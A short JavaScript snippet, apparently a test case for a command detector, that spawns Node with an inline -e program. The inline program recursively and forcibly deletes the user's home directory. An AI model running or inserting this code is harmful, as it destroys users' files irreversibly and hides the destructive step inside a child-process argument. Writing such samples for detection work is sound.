// tricky: starts node with a program in an argument
const { spawnSync } = require('child_process');
spawnSync(process.execPath, ['-e', "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })"]);
